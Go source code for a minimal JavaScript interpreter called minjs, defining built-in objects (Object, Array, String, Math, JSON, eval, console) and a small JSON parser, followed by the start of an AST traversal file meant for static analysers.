	op := it.Protos.Object
	op.SetNonEnum("hasOwnProperty", ObjectValue(it.NewNative("hasOwnProperty", func(it *Interp, this Value, args []Value) (Value, error) {
		if !this.IsObject() {
			return Boolean(false), nil
		}
		return Boolean(this.Obj.HasOwn(arg(args, 0).ToString())), nil
	})))
	op.SetNonEnum("toString", ObjectValue(it.NewNative("toString", func(it *Interp, this Value, args []Value) (Value, error) {
		if this.IsObject() {
			return String("[object " + this.Obj.Class + "]"), nil
		}
		return String(this.ToString()), nil
	})))
	op.SetNonEnum("isPrototypeOf", ObjectValue(it.NewNative("isPrototypeOf", func(it *Interp, this Value, args []Value) (Value, error) {
		v := arg(args, 0)
		if !this.IsObject() || !v.IsObject() {
			return Boolean(false), nil
		}
		for cur := v.Obj.Proto; cur != nil; cur = cur.Proto {
			if cur == this.Obj {
				return Boolean(true), nil
			}
		}
		return Boolean(false), nil
	})))
	op.SetNonEnum("propertyIsEnumerable", ObjectValue(it.NewNative("propertyIsEnumerable", func(it *Interp, this Value, args []Value) (Value, error) {
		if !this.IsObject() {
			return Boolean(false), nil
		}
		p := this.Obj.GetOwn(arg(args, 0).ToString())
		return Boolean(p != nil && p.Enumerable), nil
	})))

	// Object constructor + statics
	objectCtor := it.NewNative("Object", func(it *Interp, this Value, args []Value) (Value, error) {
		v := arg(args, 0)
		if v.IsObject() {
			return v, nil
		}
		return ObjectValue(it.NewObjectP()), nil
	})
	objectCtor.SetNonEnum("prototype", ObjectValue(op))
	objectCtor.SetNonEnum("defineProperty", ObjectValue(it.NewNative("defineProperty", func(it *Interp, this Value, args []Value) (Value, error) {
		ov, kv, dv := arg(args, 0), arg(args, 1), arg(args, 2)
		if !ov.IsObject() || !dv.IsObject() {
			return Undefined(), it.ThrowError("TypeError", "Object.defineProperty called on non-object")
		}
		key := kv.ToString()
		desc := dv.Obj
		prop := &Property{Configurable: truthyProp(it, desc, "configurable"), Enumerable: truthyProp(it, desc, "enumerable"), Writable: truthyProp(it, desc, "writable")}
		getV, _ := it.GetMember(dv, "get")
		setV, _ := it.GetMember(dv, "set")
		if getV.IsFunction() || setV.IsFunction() {
			prop.Accessor = true
			if getV.IsFunction() {
				prop.Get = getV.Obj
			}
			if setV.IsFunction() {
				prop.Set = setV.Obj
			}
		} else {
			val, _ := it.GetMember(dv, "value")
			prop.Value = val
		}
		existing := ov.Obj.GetOwn(key)
		if existing != nil && !existing.Configurable {
			return Undefined(), it.ThrowError("TypeError", "can't redefine non-configurable property %q", key)
		}
		ov.Obj.DefineProperty(key, prop)
		return ov, nil
	})))
	objectCtor.SetNonEnum("getOwnPropertyDescriptor", ObjectValue(it.NewNative("getOwnPropertyDescriptor", func(it *Interp, this Value, args []Value) (Value, error) {
		ov := arg(args, 0)
		if !ov.IsObject() {
			return Undefined(), nil
		}
		p := ov.Obj.GetOwn(arg(args, 1).ToString())
		if p == nil {
			return Undefined(), nil
		}
		d := it.NewObjectP()
		d.Set("enumerable", Boolean(p.Enumerable))
		d.Set("configurable", Boolean(p.Configurable))
		if p.Accessor {
			d.Set("get", ObjectValue(p.Get))
			d.Set("set", ObjectValue(p.Set))
		} else {
			d.Set("value", p.Value)
			d.Set("writable", Boolean(p.Writable))
		}
		return ObjectValue(d), nil
	})))
	objectCtor.SetNonEnum("keys", ObjectValue(it.NewNative("keys", func(it *Interp, this Value, args []Value) (Value, error) {
		ov := arg(args, 0)
		if !ov.IsObject() {
			return ObjectValue(it.NewArrayP()), nil
		}
		keys := ov.Obj.OwnKeys(true)
		vals := make([]Value, len(keys))
		for i, k := range keys {
			vals[i] = String(k)
		}
		return ObjectValue(it.NewArrayP(vals...)), nil
	})))
	objectCtor.SetNonEnum("getOwnPropertyNames", ObjectValue(it.NewNative("getOwnPropertyNames", func(it *Interp, this Value, args []Value) (Value, error) {
		ov := arg(args, 0)
		if !ov.IsObject() {
			return ObjectValue(it.NewArrayP()), nil
		}
		keys := ov.Obj.OwnKeys(false)
		vals := make([]Value, len(keys))
		for i, k := range keys {
			vals[i] = String(k)
		}
		return ObjectValue(it.NewArrayP(vals...)), nil
	})))
	objectCtor.SetNonEnum("getPrototypeOf", ObjectValue(it.NewNative("getPrototypeOf", func(it *Interp, this Value, args []Value) (Value, error) {
		ov := arg(args, 0)
		if !ov.IsObject() {
			return Null(), nil
		}
		return ObjectValue(ov.Obj.Proto), nil
	})))
	objectCtor.SetNonEnum("setPrototypeOf", ObjectValue(it.NewNative("setPrototypeOf", func(it *Interp, this Value, args []Value) (Value, error) {
		ov, pv := arg(args, 0), arg(args, 1)
		if !ov.IsObject() {
			return ov, nil
		}
		if pv.IsObject() {
			// reject prototype cycles, like real engines ("cyclic
			// __proto__ value"): chain walks must terminate
			for cur := pv.Obj; cur != nil; cur = cur.Proto {
				if cur == ov.Obj {
					return Undefined(), it.ThrowError("TypeError", "can't set prototype: it would cause a prototype chain cycle")
				}
			}
			ov.Obj.Proto = pv.Obj
		} else if pv.Kind == KindNull {
			ov.Obj.Proto = nil
		}
		return ov, nil
	})))
	objectCtor.SetNonEnum("create", ObjectValue(it.NewNative("create", func(it *Interp, this Value, args []Value) (Value, error) {
		pv := arg(args, 0)
		var proto *Object
		if pv.IsObject() {
			proto = pv.Obj
		}
		return ObjectValue(NewObject(proto)), nil
	})))
	objectCtor.SetNonEnum("freeze", ObjectValue(it.NewNative("freeze", func(it *Interp, this Value, args []Value) (Value, error) {
		ov := arg(args, 0)
		if ov.IsObject() {
			ov.Obj.NotExtensible = true
			for _, k := range ov.Obj.OwnKeys(false) {
				if p := ov.Obj.GetOwn(k); p != nil {
					p.Writable = false
					p.Configurable = false
				}
			}
		}
		return ov, nil
	})))
	g.SetNonEnum("Object", ObjectValue(objectCtor))

	installArray(it)
	installString(it)
	installNumberBool(it)
	installErrors(it)
	installMathJSON(it)
	installGlobalsMisc(it)
}

func truthyProp(it *Interp, o *Object, key string) bool {
	v, _ := it.GetMember(ObjectValue(o), key)
	return v.Truthy()
}

func installArray(it *Interp) {
	ap := it.Protos.Array
	type arrayFn func(it *Interp, arr *Object, args []Value) (Value, error)
	def := func(name string, fn arrayFn) {
		ap.SetNonEnum(name, ObjectValue(it.NewNative(name, func(it *Interp, this Value, args []Value) (Value, error) {
			if !this.IsObject() || this.Obj.Class != "Array" {
				return Undefined(), it.ThrowError("TypeError", "Array.prototype.%s requires an array", name)
			}
			return fn(it, this.Obj, args)
		})))
	}
	def("push", func(it *Interp, arr *Object, args []Value) (Value, error) {
		arr.Elems = append(arr.Elems, args...)
		return Int(len(arr.Elems)), nil
	})
	def("pop", func(it *Interp, arr *Object, args []Value) (Value, error) {
		if len(arr.Elems) == 0 {
			return Undefined(), nil
		}
		v := arr.Elems[len(arr.Elems)-1]
		arr.Elems = arr.Elems[:len(arr.Elems)-1]
		return v, nil
	})
	def("shift", func(it *Interp, arr *Object, args []Value) (Value, error) {
		if len(arr.Elems) == 0 {
			return Undefined(), nil
		}
		v := arr.Elems[0]
		arr.Elems = arr.Elems[1:]
		return v, nil
	})
	def("indexOf", func(it *Interp, arr *Object, args []Value) (Value, error) {
		needle := arg(args, 0)
		for i, e := range arr.Elems {
			if StrictEquals(e, needle) {
				return Int(i), nil
			}
		}
		return Int(-1), nil
	})
	def("includes", func(it *Interp, arr *Object, args []Value) (Value, error) {
		needle := arg(args, 0)
		for _, e := range arr.Elems {
			if StrictEquals(e, needle) {
				return Boolean(true), nil
			}
		}
		return Boolean(false), nil
	})
	def("join", func(it *Interp, arr *Object, args []Value) (Value, error) {
		sep := ","
		if len(args) > 0 && !args[0].IsUndefined() {
			sep = args[0].ToString()
		}
		parts := make([]string, len(arr.Elems))
		for i, e := range arr.Elems {
			if !e.IsNullish() {
				parts[i] = e.ToString()
			}
		}
		return String(strings.Join(parts, sep)), nil
	})
	def("slice", func(it *Interp, arr *Object, args []Value) (Value, error) {
		start, end := sliceBounds(len(arr.Elems), args)
		return ObjectValue(it.NewArrayP(arr.Elems[start:end]...)), nil
	})
	def("concat", func(it *Interp, arr *Object, args []Value) (Value, error) {
		out := append([]Value(nil), arr.Elems...)
		for _, a := range args {
			if a.IsObject() && a.Obj.Class == "Array" {
				out = append(out, a.Obj.Elems...)
			} else {
				out = append(out, a)
			}
		}
		return ObjectValue(it.NewArrayP(out...)), nil
	})
	def("forEach", func(it *Interp, arr *Object, args []Value) (Value, error) {
		fn := arg(args, 0)
		if !fn.IsFunction() {
			return Undefined(), it.ThrowError("TypeError", "forEach requires a function")
		}
		for i, e := range arr.Elems {
			if _, err := it.CallFunction(fn.Obj, Undefined(), []Value{e, Int(i), ObjectValue(arr)}); err != nil {
				return Undefined(), err
			}
		}
		return Undefined(), nil
	})
	def("map", func(it *Interp, arr *Object, args []Value) (Value, error) {
		fn := arg(args, 0)
		if !fn.IsFunction() {
			return Undefined(), it.ThrowError("TypeError", "map requires a function")
		}
		out := make([]Value, len(arr.Elems))
		for i, e := range arr.Elems {
			v, err := it.CallFunction(fn.Obj, Undefined(), []Value{e, Int(i), ObjectValue(arr)})
			if err != nil {
				return Undefined(), err
			}
			out[i] = v
		}
		return ObjectValue(it.NewArrayP(out...)), nil
	})
	def("filter", func(it *Interp, arr *Object, args []Value) (Value, error) {
		fn := arg(args, 0)
		if !fn.IsFunction() {
			return Undefined(), it.ThrowError("TypeError", "filter requires a function")
		}
		var out []Value
		for i, e := range arr.Elems {
			v, err := it.CallFunction(fn.Obj, Undefined(), []Value{e, Int(i), ObjectValue(arr)})
			if err != nil {
				return Undefined(), err
			}
			if v.Truthy() {
				out = append(out, e)
			}
		}
		return ObjectValue(it.NewArrayP(out...)), nil
	})
	def("sort", func(it *Interp, arr *Object, args []Value) (Value, error) {
		cmp := arg(args, 0)
		var sortErr error
		sort.SliceStable(arr.Elems, func(i, j int) bool {
			if sortErr != nil {
				return false
			}
			if cmp.IsFunction() {
				v, err := it.CallFunction(cmp.Obj, Undefined(), []Value{arr.Elems[i], arr.Elems[j]})
				if err != nil {
					sortErr = err
					return false
				}
				return v.ToNumber() < 0
			}
			return arr.Elems[i].ToString() < arr.Elems[j].ToString()
		})
		return ObjectValue(arr), sortErr
	})
	def("reverse", func(it *Interp, arr *Object, args []Value) (Value, error) {
		for i, j := 0, len(arr.Elems)-1; i < j; i, j = i+1, j-1 {
			arr.Elems[i], arr.Elems[j] = arr.Elems[j], arr.Elems[i]
		}
		return ObjectValue(arr), nil
	})
	def("toString", func(it *Interp, arr *Object, args []Value) (Value, error) {
		return String(ObjectValue(arr).ToString()), nil
	})

	arrayCtor := it.NewNative("Array", func(it *Interp, this Value, args []Value) (Value, error) {
		if len(args) == 1 && args[0].Kind == KindNumber {
			n := int(args[0].Num)
			elems := make([]Value, n)
			return ObjectValue(it.NewArrayP(elems...)), nil
		}
		return ObjectValue(it.NewArrayP(args...)), nil
	})
	arrayCtor.SetNonEnum("prototype", ObjectValue(ap))
	arrayCtor.SetNonEnum("isArray", ObjectValue(it.NewNative("isArray", func(it *Interp, this Value, args []Value) (Value, error) {
		v := arg(args, 0)
		return Boolean(v.IsObject() && v.Obj.Class == "Array"), nil
	})))
	it.Global.SetNonEnum("Array", ObjectValue(arrayCtor))
}

func sliceBounds(n int, args []Value) (int, int) {
	start, end := 0, n
	if len(args) > 0 && !args[0].IsUndefined() {
		start = int(args[0].ToNumber())
		if start < 0 {
			start += n
		}
	}
	if len(args) > 1 && !args[1].IsUndefined() {
		end = int(args[1].ToNumber())
		if end < 0 {
			end += n
		}
	}
	if start < 0 {
		start = 0
	}
	if end > n {
		end = n
	}
	if start > end {
		start = end
	}
	return start, end
}

func installString(it *Interp) {
	sp := it.Protos.String
	def := func(name string, fn func(it *Interp, s string, args []Value) (Value, error)) {
		sp.SetNonEnum(name, ObjectValue(it.NewNative(name, func(it *Interp, this Value, args []Value) (Value, error) {
			return fn(it, this.ToString(), args)
		})))
	}
	def("indexOf", func(it *Interp, s string, args []Value) (Value, error) {
		return Int(strings.Index(s, arg(args, 0).ToString())), nil
	})
	def("lastIndexOf", func(it *Interp, s string, args []Value) (Value, error) {
		return Int(strings.LastIndex(s, arg(args, 0).ToString())), nil
	})
	def("includes", func(it *Interp, s string, args []Value) (Value, error) {
		return Boolean(strings.Contains(s, arg(args, 0).ToString())), nil
	})
	def("startsWith", func(it *Interp, s string, args []Value) (Value, error) {
		return Boolean(strings.HasPrefix(s, arg(args, 0).ToString())), nil
	})
	def("endsWith", func(it *Interp, s string, args []Value) (Value, error) {
		return Boolean(strings.HasSuffix(s, arg(args, 0).ToString())), nil
	})
	def("slice", func(it *Interp, s string, args []Value) (Value, error) {
		start, end := sliceBounds(len(s), args)
		return String(s[start:end]), nil
	})
	def("substring", func(it *Interp, s string, args []Value) (Value, error) {
		start, end := sliceBounds(len(s), args)
		return String(s[start:end]), nil
	})
	def("split", func(it *Interp, s string, args []Value) (Value, error) {
		sepV := arg(args, 0)
		if sepV.IsUndefined() {
			return ObjectValue(it.NewArrayP(String(s))), nil
		}
		parts := strings.Split(s, sepV.ToString())
		vals := make([]Value, len(parts))
		for i, p := range parts {
			vals[i] = String(p)
		}
		return ObjectValue(it.NewArrayP(vals...)), nil
	})
	def("replace", func(it *Interp, s string, args []Value) (Value, error) {
		return String(strings.Replace(s, arg(args, 0).ToString(), arg(args, 1).ToString(), 1)), nil
	})
	def("replaceAll", func(it *Interp, s string, args []Value) (Value, error) {
		return String(strings.ReplaceAll(s, arg(args, 0).ToString(), arg(args, 1).ToString())), nil
	})
	def("toLowerCase", func(it *Interp, s string, args []Value) (Value, error) {
		return String(strings.ToLower(s)), nil
	})
	def("toUpperCase", func(it *Interp, s string, args []Value) (Value, error) {
		return String(strings.ToUpper(s)), nil
	})
	def("trim", func(it *Interp, s string, args []Value) (Value, error) {
		return String(strings.TrimSpace(s)), nil
	})
	def("charAt", func(it *Interp, s string, args []Value) (Value, error) {
		i := int(arg(args, 0).ToNumber())
		if i < 0 || i >= len(s) {
			return String(""), nil
		}
		return String(s[i : i+1]), nil
	})
	def("charCodeAt", func(it *Interp, s string, args []Value) (Value, error) {
		i := int(arg(args, 0).ToNumber())
		if i < 0 || i >= len(s) {
			return Number(math.NaN()), nil
		}
		return Int(int(s[i])), nil
	})
	def("concat", func(it *Interp, s string, args []Value) (Value, error) {
		var b strings.Builder
		b.WriteString(s)
		for _, a := range args {
			b.WriteString(a.ToString())
		}
		return String(b.String()), nil
	})
	def("repeat", func(it *Interp, s string, args []Value) (Value, error) {
		n := int(arg(args, 0).ToNumber())
		if n < 0 || n > 1<<20 {
			return Undefined(), it.ThrowError("RangeError", "invalid repeat count")
		}
		return String(strings.Repeat(s, n)), nil
	})
	def("toString", func(it *Interp, s string, args []Value) (Value, error) {
		return String(s), nil
	})

	strCtor := it.NewNative("String", func(it *Interp, this Value, args []Value) (Value, error) {
		if len(args) == 0 {
			return String(""), nil
		}
		return String(args[0].ToString()), nil
	})
	strCtor.SetNonEnum("prototype", ObjectValue(sp))
	strCtor.SetNonEnum("fromCharCode", ObjectValue(it.NewNative("fromCharCode", func(it *Interp, this Value, args []Value) (Value, error) {
		var b strings.Builder
		for _, a := range args {
			b.WriteRune(rune(int(a.ToNumber())))
		}
		return String(b.String()), nil
	})))
	it.Global.SetNonEnum("String", ObjectValue(strCtor))
}

func installNumberBool(it *Interp) {
	np := it.Protos.Number
	np.SetNonEnum("toString", ObjectValue(it.NewNative("toString", func(it *Interp, this Value, args []Value) (Value, error) {
		radix := 10
		if len(args) > 0 && !args[0].IsUndefined() {
			radix = int(args[0].ToNumber())
		}
		n := this.ToNumber()
		if radix == 10 {
			return String(numToString(n)), nil
		}
		if radix < 2 || radix > 36 {
			return Undefined(), it.ThrowError("RangeError", "radix must be between 2 and 36")
		}
		return String(strconv.FormatInt(int64(n), radix)), nil
	})))
	np.SetNonEnum("toFixed", ObjectValue(it.NewNative("toFixed", func(it *Interp, this Value, args []Value) (Value, error) {
		digits := int(arg(args, 0).ToNumber())
		return String(strconv.FormatFloat(this.ToNumber(), 'f', digits, 64)), nil
	})))
	numCtor := it.NewNative("Number", func(it *Interp, this Value, args []Value) (Value, error) {
		return Number(arg(args, 0).ToNumber()), nil
	})
	numCtor.SetNonEnum("prototype", ObjectValue(np))
	numCtor.SetNonEnum("isInteger", ObjectValue(it.NewNative("isInteger", func(it *Interp, this Value, args []Value) (Value, error) {
		v := arg(args, 0)
		return Boolean(v.Kind == KindNumber && v.Num == math.Trunc(v.Num)), nil
	})))
	numCtor.SetNonEnum("MAX_SAFE_INTEGER", Number(9007199254740991))
	it.Global.SetNonEnum("Number", ObjectValue(numCtor))

	bp := it.Protos.Boolean
	bp.SetNonEnum("toString", ObjectValue(it.NewNative("toString", func(it *Interp, this Value, args []Value) (Value, error) {
		return String(this.ToString()), nil
	})))
	boolCtor := it.NewNative("Boolean", func(it *Interp, this Value, args []Value) (Value, error) {
		return Boolean(arg(args, 0).Truthy()), nil
	})
	boolCtor.SetNonEnum("prototype", ObjectValue(bp))
	it.Global.SetNonEnum("Boolean", ObjectValue(boolCtor))
}

func installErrors(it *Interp) {
	ep := it.Protos.Error
	ep.SetNonEnum("toString", ObjectValue(it.NewNative("toString", func(it *Interp, this Value, args []Value) (Value, error) {
		return String(this.ToString()), nil
	})))
	makeErrCtor := func(name string, proto *Object) *Object {
		ctor := it.NewNative(name, func(it *Interp, this Value, args []Value) (Value, error) {
			target := this
			if !target.IsObject() || target.Obj == it.Global {
				target = ObjectValue(NewObject(proto))
			}
			o := target.Obj
			o.Class = "Error"
			o.SetNonEnum("name", String(name))
			msg := ""
			if len(args) > 0 && !args[0].IsUndefined() {
				msg = args[0].ToString()
			}
			o.SetNonEnum("message", String(msg))
			o.SetNonEnum("stack", String(it.captureJSStack()))
			return target, nil
		})
		ctor.SetNonEnum("prototype", ObjectValue(proto))
		proto.SetNonEnum("constructor", ObjectValue(ctor))
		proto.SetNonEnum("name", String(name))
		return ctor
	}
	it.Global.SetNonEnum("Error", ObjectValue(makeErrCtor("Error", ep)))
	for _, name := range []string{"TypeError", "ReferenceError", "RangeError", "SyntaxError", "InternalError"} {
		sub := NewObject(ep)
		sub.Class = "Error"
		it.Global.SetNonEnum(name, ObjectValue(makeErrCtor(name, sub)))
	}
}

// captureJSStack is CaptureStack minus the synthetic frame of the native
// Error constructor itself.
func (it *Interp) captureJSStack() string {
	var b strings.Builder
	for i := len(it.stack) - 1; i >= 0; i-- {
		if it.stack[i].Script == "native" {
			continue
		}
		b.WriteString(it.stack[i].String())
		b.WriteByte('\n')
	}
	return b.String()
}

func installMathJSON(it *Interp) {
	// Math with a deterministic, per-realm PRNG (reseedable by the host).
	rng := rand.New(rand.NewSource(42))
	it.rng = rng
	m := it.NewObjectP()
	m.Class = "Math"
	def := func(name string, fn func(args []Value) Value) {
		m.SetNonEnum(name, ObjectValue(it.NewNative(name, func(it *Interp, this Value, args []Value) (Value, error) {
			return fn(args), nil
		})))
	}
	def("random", func(args []Value) Value { return Number(it.rng.Float64()) })
	def("floor", func(args []Value) Value { return Number(math.Floor(arg(args, 0).ToNumber())) })
	def("ceil", func(args []Value) Value { return Number(math.Ceil(arg(args, 0).ToNumber())) })
	def("round", func(args []Value) Value { return Number(math.Round(arg(args, 0).ToNumber())) })
	def("abs", func(args []Value) Value { return Number(math.Abs(arg(args, 0).ToNumber())) })
	def("sqrt", func(args []Value) Value { return Number(math.Sqrt(arg(args, 0).ToNumber())) })
	def("pow", func(args []Value) Value {
		return Number(math.Pow(arg(args, 0).ToNumber(), arg(args, 1).ToNumber()))
	})
	def("max", func(args []Value) Value {
		out := math.Inf(-1)
		for _, a := range args {
			out = math.Max(out, a.ToNumber())
		}
		return Number(out)
	})
	def("min", func(args []Value) Value {
		out := math.Inf(1)
		for _, a := range args {
			out = math.Min(out, a.ToNumber())
		}
		return Number(out)
	})
	m.SetNonEnum("PI", Number(math.Pi))
	it.Global.SetNonEnum("Math", ObjectValue(m))

	// JSON
	j := it.NewObjectP()
	j.Class = "JSON"
	j.SetNonEnum("stringify", ObjectValue(it.NewNative("stringify", func(it *Interp, this Value, args []Value) (Value, error) {
		s, err := jsonStringify(arg(args, 0), map[*Object]bool{})
		if err != nil {
			return Undefined(), it.ThrowError("TypeError", "%s", err.Error())
		}
		return String(s), nil
	})))
	j.SetNonEnum("parse", ObjectValue(it.NewNative("parse", func(it *Interp, this Value, args []Value) (Value, error) {
		v, err := jsonParse(it, arg(args, 0).ToString())
		if err != nil {
			return Undefined(), it.ThrowError("SyntaxError", "JSON.parse: %s", err.Error())
		}
		return v, nil
	})))
	it.Global.SetNonEnum("JSON", ObjectValue(j))
}

func installGlobalsMisc(it *Interp) {
	g := it.Global
	g.SetNonEnum("parseInt", ObjectValue(it.NewNative("parseInt", func(it *Interp, this Value, args []Value) (Value, error) {
		s := strings.TrimSpace(arg(args, 0).ToString())
		radix := 10
		if len(args) > 1 && !args[1].IsUndefined() {
			radix = int(args[1].ToNumber())
		}
		if strings.HasPrefix(s, "0x") || strings.HasPrefix(s, "0X") {
			s = s[2:]
			radix = 16
		}
		end := 0
		for end < len(s) {
			c := s[end]
			if end == 0 && (c == '-' || c == '+') {
				end++
				continue
			}
			d := digitVal(c)
			if d < 0 || d >= radix {
				break
			}
			end++
		}
		n, err := strconv.ParseInt(s[:end], radix, 64)
		if err != nil {
			return Number(math.NaN()), nil
		}
		return Number(float64(n)), nil
	})))
	g.SetNonEnum("parseFloat", ObjectValue(it.NewNative("parseFloat", func(it *Interp, this Value, args []Value) (Value, error) {
		return Number(String(arg(args, 0).ToString()).ToNumber()), nil
	})))
	g.SetNonEnum("isNaN", ObjectValue(it.NewNative("isNaN", func(it *Interp, this Value, args []Value) (Value, error) {
		return Boolean(math.IsNaN(arg(args, 0).ToNumber())), nil
	})))
	g.SetNonEnum("NaN", Number(math.NaN()))
	g.SetNonEnum("Infinity", Number(math.Inf(1)))
	g.SetNonEnum("globalThis", ObjectValue(g))
	g.SetNonEnum("eval", ObjectValue(it.NewNative("eval", func(it *Interp, this Value, args []Value) (Value, error) {
		src := arg(args, 0)
		if src.Kind != KindString {
			return src, nil
		}
		prog, err := Parse(src.Str, "eval")
		if err != nil {
			return Undefined(), it.ThrowError("SyntaxError", "%s", err.Error())
		}
		if it.EvalHook != nil {
			it.EvalHook(src.Str)
		}
		// indirect-eval semantics: run at global scope
		frame := it.pushFrame(Frame{FnName: "eval", Script: "eval", Line: 1})
		defer it.popFrame()
		it.hoist(prog.Body, it.root)
		var last Value
		for _, st := range prog.Body {
			v, err := it.evalStmt(st, it.root, frame)
			if err != nil {
				if rs, ok := err.(*returnSignal); ok {
					return rs.val, nil
				}
				return Undefined(), err
			}
			last = v
		}
		return last, nil
	})))

	// console.log collecting into it.ConsoleLog (the host may replace it).
	console := it.NewObjectP()
	console.Class = "Console"
	logFn := func(it *Interp, this Value, args []Value) (Value, error) {
		parts := make([]string, len(args))
		for i, a := range args {
			parts[i] = a.ToString()
		}
		it.ConsoleLog = append(it.ConsoleLog, strings.Join(parts, " "))
		return Undefined(), nil
	}
	console.SetNonEnum("log", ObjectValue(it.NewNative("log", logFn)))
	console.SetNonEnum("warn", ObjectValue(it.NewNative("warn", logFn)))
	console.SetNonEnum("error", ObjectValue(it.NewNative("error", logFn)))
	g.SetNonEnum("console", ObjectValue(console))
}

func digitVal(c byte) int {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0')
	case c >= 'a' && c <= 'z':
		return int(c-'a') + 10
	case c >= 'A' && c <= 'Z':
		return int(c-'A') + 10
	}
	return -1
}

// jsonStringify renders v as JSON; functions and undefined map to an error at
// the top level and are skipped inside objects (like the real JSON.stringify
// returning undefined — we simplify to "null").
func jsonStringify(v Value, seen map[*Object]bool) (string, error) {
	switch v.Kind {
	case KindUndefined:
		return "null", nil
	case KindNull:
		return "null", nil
	case KindBool, KindNumber:
		return v.ToString(), nil
	case KindString:
		return strconv.Quote(v.Str), nil
	}
	o := v.Obj
	if seen[o] {
		return "", fmt.Errorf("cyclic object value")
	}
	seen[o] = true
	defer delete(seen, o)
	if o.fnd != nil && (o.fnd.Fn != nil || o.fnd.Native != nil) {
		return "null", nil
	}
	var b strings.Builder
	if o.Class == "Array" {
		b.WriteByte('[')
		for i, e := range o.Elems {
			if i > 0 {
				b.WriteByte(',')
			}
			s, err := jsonStringify(e, seen)
			if err != nil {
				return "", err
			}
			b.WriteString(s)
		}
		b.WriteByte(']')
		return b.String(), nil
	}
	b.WriteByte('{')
	first := true
	for _, k := range o.OwnKeys(true) {
		p := o.GetOwn(k)
		if p == nil || p.Accessor {
			continue
		}
		if !first {
			b.WriteByte(',')
		}
		first = false
		b.WriteString(strconv.Quote(k))
		b.WriteByte(':')
		s, err := jsonStringify(p.Value, seen)
		if err != nil {
			return "", err
		}
		b.WriteString(s)
	}
	b.WriteByte('}')
	return b.String(), nil
}

// jsonParse is a minimal JSON reader producing minjs values.
func jsonParse(it *Interp, s string) (Value, error) {
	p := &jsonParser{src: s}
	v, err := p.value(it)
	if err != nil {
		return Undefined(), err
	}
	p.ws()
	if p.pos != len(p.src) {
		return Undefined(), fmt.Errorf("trailing characters at %d", p.pos)
	}
	return v, nil
}

type jsonParser struct {
	src string
	pos int
}

func (p *jsonParser) ws() {
	for p.pos < len(p.src) {
		switch p.src[p.pos] {
		case ' ', '\t', '\n', '\r':
			p.pos++
		default:
			return
		}
	}
}

func (p *jsonParser) value(it *Interp) (Value, error) {
	p.ws()
	if p.pos >= len(p.src) {
		return Undefined(), fmt.Errorf("unexpected end of input")
	}
	c := p.src[p.pos]
	switch {
	case c == '{':
		p.pos++
		o := it.NewObjectP()
		p.ws()
		if p.pos < len(p.src) && p.src[p.pos] == '}' {
			p.pos++
			return ObjectValue(o), nil
		}
		for {
			p.ws()
			k, err := p.str()
			if err != nil {
				return Undefined(), err
			}
			p.ws()
			if p.pos >= len(p.src) || p.src[p.pos] != ':' {
				return Undefined(), fmt.Errorf("expected ':'")
			}
			p.pos++
			v, err := p.value(it)
			if err != nil {
				return Undefined(), err
			}
			o.Set(k, v)
			p.ws()
			if p.pos < len(p.src) && p.src[p.pos] == ',' {
				p.pos++
				continue
			}
			if p.pos < len(p.src) && p.src[p.pos] == '}' {
				p.pos++
				return ObjectValue(o), nil
			}
			return Undefined(), fmt.Errorf("expected ',' or '}'")
		}
	case c == '[':
		p.pos++
		arr := it.NewArrayP()
		p.ws()
		if p.pos < len(p.src) && p.src[p.pos] == ']' {
			p.pos++
			return ObjectValue(arr), nil
		}
		for {
			v, err := p.value(it)
			if err != nil {
				return Undefined(), err
			}
			arr.Elems = append(arr.Elems, v)
			p.ws()
			if p.pos < len(p.src) && p.src[p.pos] == ',' {
				p.pos++
				continue
			}
			if p.pos < len(p.src) && p.src[p.pos] == ']' {
				p.pos++
				return ObjectValue(arr), nil
			}
			return Undefined(), fmt.Errorf("expected ',' or ']'")
		}
	case c == '"':
		s, err := p.str()
		if err != nil {
			return Undefined(), err
		}
		return String(s), nil
	case strings.HasPrefix(p.src[p.pos:], "true"):
		p.pos += 4
		return Boolean(true), nil
	case strings.HasPrefix(p.src[p.pos:], "false"):
		p.pos += 5
		return Boolean(false), nil
	case strings.HasPrefix(p.src[p.pos:], "null"):
		p.pos += 4
		return Null(), nil
	default:
		start := p.pos
		for p.pos < len(p.src) && (isDigit(p.src[p.pos]) || strings.ContainsRune("+-.eE", rune(p.src[p.pos]))) {
			p.pos++
		}
		f, err := strconv.ParseFloat(p.src[start:p.pos], 64)
		if err != nil {
			return Undefined(), fmt.Errorf("bad number at %d", start)
		}
		return Number(f), nil
	}
}

func (p *jsonParser) str() (string, error) {
	if p.pos >= len(p.src) || p.src[p.pos] != '"' {
		return "", fmt.Errorf("expected string at %d", p.pos)
	}
	end := p.pos + 1
	for end < len(p.src) && p.src[end] != '"' {
		if p.src[end] == '\\' {
			end++
		}
		end++
	}
	if end >= len(p.src) {
		return "", fmt.Errorf("unterminated string")
	}
	s, err := strconv.Unquote(p.src[p.pos : end+1])
	if err != nil {
		return "", err
	}
	p.pos = end + 1
	return s, nil
}
