package minjs

// This file is the exported traversal surface used by static analysers
// (internal/analysis builds its tamper-detection rules on it). The
// interpreter itself does not use Walk: evaluation order and scoping rules
// there are subtler than a plain child enumeration.

// Line reports the 1-based source line a node was parsed on, or 0 for nil.
func Line(n Node) int {
	if n == nil {
		return 0
	}
	return n.nodeLine()
}

// Children returns n's direct child nodes in source order. Nil children
// (elided initialisers, absent else branches, …) are omitted. The returned
// slice is freshly allocated and safe to mutate.
func Children(n Node) []Node {
	var out []Node
	add := func(ns ...Node) {
		for _, c := range ns {
			if c != nil {
				out = append(out, c)
			}
		}
	}
	switch x := n.(type) {
	case nil:
	case *Program:
		add(x.Body...)
	case *VarDecl:
		add(x.Inits...)
	case *ExprStmt:
		add(x.X)
	case *IfStmt:
		add(x.Cond, x.Then, x.Else)
	case *WhileStmt:
		add(x.Cond, x.Body)
	case *DoWhileStmt:
		add(x.Body, x.Cond)
	case *ForStmt:
		add(x.Init, x.Cond, x.Post, x.Body)
	case *ForInStmt:
		add(x.Obj, x.Body)
	case *ReturnStmt:
		add(x.X)
	case *BreakStmt, *ContinueStmt:
	case *BlockStmt:
		add(x.Body...)
	case *ThrowStmt:
		add(x.X)
	case *TryStmt:
		if x.Body != nil {
			add(x.Body)
		}
		if x.Catch != nil {
			add(x.Catch)
		}
		if x.Finally != nil {
			add(x.Finally)
		}
	case *FuncDecl:
		if x.Fn != nil {
			add(x.Fn)
		}
	case *SwitchStmt:
		add(x.Tag)
		for _, c := range x.Cases {
			add(c.Test)
			add(c.Body...)
		}
		add(x.Default...)
	case *Ident, *Literal, *ThisExpr:
	case *ArrayLit:
		add(x.Elems...)
	case *ObjectLit:
		add(x.Vals...)
